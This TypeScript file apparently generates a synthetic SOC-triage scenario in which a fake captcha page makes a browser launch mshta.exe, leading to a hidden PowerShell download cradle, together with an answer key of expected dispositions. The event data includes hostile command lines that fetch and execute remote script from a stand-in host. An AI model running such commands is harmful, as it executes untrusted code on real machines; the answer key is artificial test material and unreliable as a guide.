import { programs } from '../world/programs';
import { publicIpService, resolvedTo } from './public_ip_service';
import { reasons } from './reasons';
import { StoryRecorder, ago } from './story_recorder';
import type { Telling } from './stage';

const PAGE_ADDRESS = '198.51.100.201';

/** A page of the web gets mshta.exe started. */
export const browserMshta: Telling = (stage) => {
  const story = new StoryRecorder(stage, 'browser_mshta', 'winlogbeat');
  const { browser } = stage.residentsOf(stage.cast.webUser);
  const service = publicIpService('ident.me');
  const page = resolvedTo('captcha-check.grebe.example', PAGE_ADDRESS);

  story.lookup('context', browser, page, ago(29, 30));
  story.connect('context', browser, { address: PAGE_ADDRESS, port: 443 }, ago(29, 29));
  const mshta = story.start('process', browser, {
    program: programs.mshta,
    before: ago(28, 50),
    commandLine: 'mshta.exe https://captcha-check.grebe.example/v.hta',
  });
  story.lookup('dns', mshta, page, ago(28, 49));
  story.connect('network', mshta, { address: PAGE_ADDRESS, port: 443 }, ago(28, 48));
  story.lookup('dns', mshta, { ...service, ipv6: [] }, ago(28, 40), {
    reasons: [reasons.name('mshta.exe')],
  });
  story.connect('network', mshta, { address: service.ipv4[0], port: 443 }, ago(28, 39));
  const shell = story.start('children', mshta, {
    program: programs.powershell,
    before: ago(28, 20),
    commandLine: 'powershell.exe -w hidden -c "iwr https://captcha-check.grebe.example/s | iex"',
  });
  story.end('process', mshta, ago(28));
  story.end('children', shell, ago(26));

  return story.told({
    title: 'A browser starts mshta.exe, which asks for the public address',
    summary:
      'A page that poses as a captcha gets mshta.exe to run a script from the web. The script resolves ident.me, connects there, and starts a hidden PowerShell that downloads more. Escalate: a script host as a child of a browser is a known way in.',
    expectedDisposition: 'escalate',
    dispositionBecause: 'Lineage, connections and the downloader that follows agree.',
    answers: {
      dns_outcome: { answer: 'escalates', because: 'A script host resolved the service.' },
      binary_identity: {
        answer: 'escalates',
        because: 'mshta.exe runs scripts; Sysmon does not tell its signature.',
      },
      launch_chain: {
        answer: 'escalates',
        because: 'The browser started it, with the address of a page in its command line.',
      },
      connections: {
        answer: 'escalates',
        because: 'It connected to the page and to the resolved address.',
      },
      follow_on_commands: {
        answer: 'escalates',
        because: 'It started a hidden PowerShell that downloads and runs a script.',
      },
      related_alerts: {
        answer: 'unresolved',
        because: 'The host has no other alerts; `user.id` is that of the Sysmon service.',
      },
    },
  });
};
